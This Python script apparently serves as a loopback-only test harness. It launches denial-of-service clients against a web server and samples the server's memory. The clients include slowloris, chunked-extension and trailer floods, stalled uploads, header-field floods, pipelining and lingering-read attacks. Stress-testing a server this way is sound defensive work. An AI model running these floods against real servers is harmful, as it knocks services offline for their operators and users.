#!/usr/bin/python3
"""Hostile clients for a web server on loopback, each run while the server's resident memory is
sampled from outside. Prints one line of figures per attack. Only 127.0.0.0/8 is ever used.

Usage: attack.py ATTACK --port PORT [--pids PID,PID...] [options]   (attack.py -h lists them)
"""
import argparse
import os
import selectors
import socket
import threading
import time

SOURCES = ["127.0.1.%d" % i for i in range(1, 11)]  # ten client addresses, 200 connections each


class RssSampler(threading.Thread):
    """Samples the summed resident size of some processes every 100 ms; keeps the peak."""

    def __init__(self, pids):
        super().__init__(daemon=True)
        self.pids = pids
        self.peak_kib = 0
        self.stopping = False

    def rss_kib(self):
        total = 0
        for pid in self.pids:
            try:
                with open("/proc/%d/status" % pid) as f:
                    for line in f:
                        if line.startswith("VmRSS:"):
                            total += int(line.split()[1])
            except OSError:
                pass
        return total

    def run(self):
        while not self.stopping:
            self.peak_kib = max(self.peak_kib, self.rss_kib())
            time.sleep(0.1)

    def stop(self):
        self.stopping = True
        self.join()
        return self.peak_kib / 1024.0


def connect(port, source, timeout=5.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((source, 0))
    s.settimeout(timeout)
    s.connect(("127.0.0.1", port))
    return s


def status_of(reply):
    """The status code of the first reply in the bytes, or 0."""
    if not reply.startswith(b"HTTP/1."):
        return 0
    try:
        return int(reply.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return 0


def open_many(port, count):
    socks = []
    for i in range(count):
        try:
            socks.append(connect(port, SOURCES[i % len(SOURCES)]))
        except OSError:
            pass
    return socks


def pump(socks, payload_of, seconds):
    """Sends each socket's payload as fast as it is taken, and collects what comes back, for up
    to `seconds`. payload_of(i) gives a chunk to send (b"" once a socket has sent all it will).
    A socket counts as closed when a send fails, or when the server has ended its side and there
    is nothing left to send. Returns (replies, closed_at, answered_at) per socket: the bytes
    received, when the server closed it and when its first reply byte came."""
    sel = selectors.DefaultSelector()
    replies = [b""] * len(socks)
    closed_at = [None] * len(socks)
    answered_at = [None] * len(socks)
    pending = [b""] * len(socks)
    ended = [False] * len(socks)  # the server sent its end of stream
    start = time.monotonic()

    def interest(i):
        return (0 if ended[i] else selectors.EVENT_READ) | (selectors.EVENT_WRITE if pending[i] else 0)

    for i, s in enumerate(socks):
        s.setblocking(False)
        pending[i] = payload_of(i)
        sel.register(s, interest(i), i)
    open_count = len(socks)
    while time.monotonic() - start < seconds and open_count > 0:
        for key, events in sel.select(timeout=0.1):
            i, s = key.data, key.fileobj
            try:
                if events & selectors.EVENT_READ:
                    data = s.recv(65536)
                    if answered_at[i] is None:
                        answered_at[i] = time.monotonic() - start
                    if not data:
                        ended[i] = True
                    elif len(replies[i]) < 4096:
                        replies[i] += data[: 4096 - len(replies[i])]
                if events & selectors.EVENT_WRITE and pending[i]:
                    n = s.send(pending[i])
                    pending[i] = pending[i][n:] or payload_of(i)
                if not interest(i):
                    raise ConnectionResetError  # ended, and nothing more to send
                sel.modify(s, interest(i), i)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                closed_at[i] = time.monotonic() - start
                sel.unregister(s)
                open_count -= 1
    return replies, closed_at, answered_at


def summary(name, rss_mib, **figures):
    parts = ["%s=%s" % (k, ("%.1f" % v) if isinstance(v, float) else v) for k, v in figures.items()]
    print("%-14s peak_rss_mib=%.1f %s" % (name, rss_mib, " ".join(parts)), flush=True)


def probe(port):
    """A new visitor from an address of its own: the seconds a GET took, or None."""
    start = time.monotonic()
    try:
        s = connect(port, "127.0.2.1", timeout=5.0)
        s.sendall(b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = s.recv(4096)
        s.close()
        return time.monotonic() - start if status_of(data) == 200 else None
    except OSError:
        return None


def attack_slowloris(a):
    socks = open_many(a.port, a.conns)
    for s in socks:
        try:
            s.sendall(b"GET /index.html HTTP/1.1\r\nHost: x\r\n")
        except OSError:
            pass
    start, probes, alive = time.monotonic(), [], socks
    while time.monotonic() - start < a.seconds:
        still = []
        for s in alive:
            try:
                s.sendall(b"X-a: b\r\n")
                still.append(s)
            except OSError:
                pass
        alive = still
        probes.append(probe(a.port))
        time.sleep(1.0)
    served = [p for p in probes if p is not None]
    return dict(connections=len(socks), open_at_end=len(alive), probes_served="%d/%d" % (len(served), len(probes)),
                slowest_probe_s=max(served) if served else -1.0)


def attack_chunkext(a, trailer=False):
    head = (b"POST /index.html HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n\r\n")
    head += b"0\r\nX-Trailer: " if trailer else b"3;"
    socks = open_many(a.port, a.conns)
    sent = [0] * len(socks)
    flood = b"a" * 65536

    def payload(i):
        chunk = head if sent[i] == 0 else flood
        sent[i] += len(chunk)
        return chunk

    replies, closed, answered = pump(socks, payload, a.seconds)
    # When each was answered or cut off, whichever came first.
    ends = sorted(min(x for x in (c, r) if x is not None) for c, r in zip(closed, answered) if (c, r) != (None, None))
    statuses = ",".join(str(c) for c in sorted(set(status_of(r) for r in replies)))
    return dict(connections=len(socks), ended=len(ends), median_end_s=ends[len(ends) // 2] if ends else -1.0,
                mib_sent=sum(sent) / 1048576.0, replies=statuses)


def attack_stalled(a):
    size = a.body
    head = ("POST /index.html HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            "Content-Length: %d\r\n\r\n" % size).encode()
    socks = open_many(a.port, a.conns)
    left = [size - 1] * len(socks)
    piece = b"a" * 65536

    def payload(i):
        if left[i] == size - 1:
            left[i] -= 1
            return head + b"a"
        n = min(len(piece), left[i])
        left[i] -= n
        return piece[:n]

    replies, closed, _ = pump(socks, payload, a.seconds)
    codes = [status_of(r) for r in replies]
    return dict(uploads=len(socks), stalled_open=sum(1 for c in closed if c is None),
                refused_503=codes.count(503), mib_sent=sum(size - 1 - l for l in left) / 1048576.0)


def attack_fields(a):
    fields = b"a:\r\n" * a.fields
    head = (b"POST /index.html HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: 10\r\n" + fields + b"\r\n")
    socks = open_many(a.port, a.conns)
    done = [False] * len(socks)

    def payload(i):
        if done[i]:
            return b""
        done[i] = True
        return head

    replies, closed, _ = pump(socks, payload, a.seconds)
    codes = [status_of(r) for r in replies]
    return dict(connections=len(socks), held_open=sum(1 for c in closed if c is None),
                replies_431=codes.count(431), replies_400=codes.count(400))


def attack_pipeline(a):
    request = b"GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n"
    socks = [connect(a.port, SOURCES[i]) for i in range(a.conns)]
    counts = [0] * len(socks)
    start = time.monotonic()

    def reader(i, s):
        buf = b""
        s.settimeout(30)
        try:
            while counts[i] < a.requests:
                data = s.recv(1 << 20)
                if not data:
                    return
                buf += data
                counts[i] += buf.count(b"HTTP/1.1 200")
                buf = buf[buf.rfind(b"HTTP/1.1 200") + 1:] if b"HTTP/1.1 200" in buf else buf[-16:]
        except OSError:
            pass

    threads = [threading.Thread(target=reader, args=(i, s)) for i, s in enumerate(socks)]
    for t in threads:
        t.start()
    for s in socks:
        s.sendall(request * a.requests)
    for t in threads:
        t.join()
    return dict(connections=len(socks), requests_each=a.requests, answered=sum(counts),
                seconds=time.monotonic() - start)


def attack_growing(a):
    """Pairs of pipelined requests, the first for a file that grows all the time: the reply after it
    must start where the announced length ends."""
    path = a.file
    stop = threading.Event()

    def grow():  # by about a megabyte a second, never shrinking
        with open(path, "ab") as f:
            while not stop.is_set():
                f.write(b"g" * 1024)
                f.flush()
                time.sleep(0.001)

    writer = threading.Thread(target=grow, daemon=True)
    writer.start()
    name = os.path.basename(path).encode()
    pair = b"GET /" + name + b" HTTP/1.1\r\nHost: x\r\n\r\nGET /index.html HTTP/1.1\r\nHost: x\r\n\r\n"
    start, checked, bad = time.monotonic(), 0, 0
    while time.monotonic() - start < a.seconds:
        try:
            s = connect(a.port, SOURCES[checked % len(SOURCES)])
            s.sendall(pair + b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            data = b""
            while True:
                chunk = s.recv(1 << 20)
                if not chunk:
                    break
                data += chunk
            s.close()
        except OSError:
            continue
        checked += 1
        head_end = data.find(b"\r\n\r\n")
        length = 0
        for line in data[:head_end].split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                length = int(line.split(b":")[1])
        rest = data[head_end + 4 + length:]
        # Both index replies must follow, each starting a reply.
        if not rest.startswith(b"HTTP/1.1 200") or rest.count(b"HTTP/1.1 200") != 2:
            bad += 1
    stop.set()
    writer.join()
    return dict(replies=checked, overrun_or_broken=bad)


def attack_bodydeadline(a):
    """A chunked body of valid one-byte chunks with long extensions, as fast as it is taken: data
    all the time, a body that hardly grows (1 MiB of body is 8 GiB of data). How long until the
    server ends it, and how: no reply (its body deadline) or 413 (the body limit)?"""
    s = connect(a.port, SOURCES[0])
    s.sendall(b"POST /index.html HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
              b"Content-Type: application/x-www-form-urlencoded\r\n\r\n")
    piece = (b"1;" + b"x" * 8000 + b"\r\nz\r\n") * 8
    replies, closed, _ = pump([s], lambda i: piece, a.seconds)
    return dict(cut_after_s=closed[0] if closed[0] is not None else -1.0, reply=status_of(replies[0]))


def attack_linger(a):
    """An error reply, then data as fast as it is taken: how long does the server go on reading?"""
    s = connect(a.port, SOURCES[0])
    s.sendall(b"GARBAGE\r\n\r\n")
    s.settimeout(5)
    reply = s.recv(4096)
    _, closed, _ = pump([s], lambda i: b"g" * 65536, a.seconds)
    return dict(reply=status_of(reply), closed_after_s=closed[0] if closed[0] is not None else -1.0)


def attack_stderr(a):
    """Keep-alive requests one after another, each with a time limit: how many are answered?"""
    s = connect(a.port, SOURCES[0])
    answered, start = 0, time.monotonic()
    try:
        for _ in range(a.requests):
            s.sendall(b"GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n")
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = s.recv(65536)
                if not chunk:
                    raise OSError
                data += chunk
            answered += 1
    except OSError:
        pass
    return dict(requests=a.requests, answered=answered, seconds=time.monotonic() - start)


ATTACKS = {
    "slowloris": attack_slowloris,
    "chunkext": attack_chunkext,
    "trailer": lambda a: attack_chunkext(a, trailer=True),
    "stalled": attack_stalled,
    "fields": attack_fields,
    "pipeline": attack_pipeline,
    "growing": attack_growing,
    "bodydeadline": attack_bodydeadline,
    "linger": attack_linger,
    "stderr": attack_stderr,
}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pids", default="", help="processes whose resident size is summed")
    p.add_argument("--label", default="")
    p.add_argument("--conns", type=int, default=2000)
    p.add_argument("--seconds", type=float, default=15.0)
    p.add_argument("--body", type=int, default=(1 << 20) - 1, help="stalled: the announced body length")
    p.add_argument("--fields", type=int, default=4000)
    p.add_argument("--requests", type=int, default=20000)
    p.add_argument("--file", default="", help="growing: the served file that grows")
    a = p.parse_args()
    sampler = RssSampler([int(x) for x in a.pids.split(",") if x])
    sampler.start()
    figures = ATTACKS[a.attack](a)
    time.sleep(0.3)  # one more sample after the last connection went
    summary((a.label + " " if a.label else "") + a.attack, sampler.stop(), **figures)


if __name__ == "__main__":
    main()
